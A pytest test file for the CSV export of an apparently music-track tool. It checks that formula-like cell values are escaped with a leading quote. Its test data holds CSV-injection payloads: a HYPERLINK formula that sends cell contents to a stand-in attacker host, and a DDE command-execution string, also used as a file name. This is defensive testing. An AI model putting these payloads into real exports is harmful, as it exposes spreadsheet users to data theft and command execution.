"""Tables that a spreadsheet would compute."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import segue
from segue.cli.main import run
from segue.exports.cells import cell

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text) -> None:
    assert cell(text) == f"'{text}"


@given(st.text())
def test_no_cell_begins_like_a_formula_and_nothing_is_lost(text: str) -> None:
    held = cell(text)
    assert not held.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert held in {text, f"'{text}"}


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans()))
def test_numbers_stay_numbers(value) -> None:
    assert cell(value) is value


def test_what_an_import_refused_is_written_without_formulas(tmp_path: Path) -> None:
    table = tmp_path / "=cmd|calc!A0.csv"
    table.write_text("title,artists,year\n,,\nOne,Somebody,1999\n", encoding="utf-8")
    listed = tmp_path / "refused.csv"
    words = ["import", "tracks", table.name, "--rejections", str(listed)]
    import os

    before = Path.cwd()
    os.chdir(tmp_path)
    try:
        run([*words, "--database", str(tmp_path / "segue.db"), "--json"])
    finally:
        os.chdir(before)
    rows = list(csv.reader(io.StringIO(listed.read_text(encoding="utf-8"))))
    assert rows[0] == ["place", "line", "reason"]
    assert len(rows) > 1
    cells = [one for row in rows[1:] for one in row]
    assert not [one for one in cells if one.startswith(("=", "+", "@", "-"))]
    assert any(one.startswith("'=") or "=cmd" in one for one in cells)


def test_every_place_that_writes_a_table_minds_formulas() -> None:
    """A new writer of CSV is found here, so that it cannot be forgotten."""
    source = Path(segue.__file__).parent
    writers = set()
    for path in source.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "csv.writer" in text or "DictWriter" in text or "write_csv" in text:
            names = {node.id for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Name)}
            writers.add(path.relative_to(source).as_posix())
            assert "cell" in names, path
    assert len(writers) >= 3
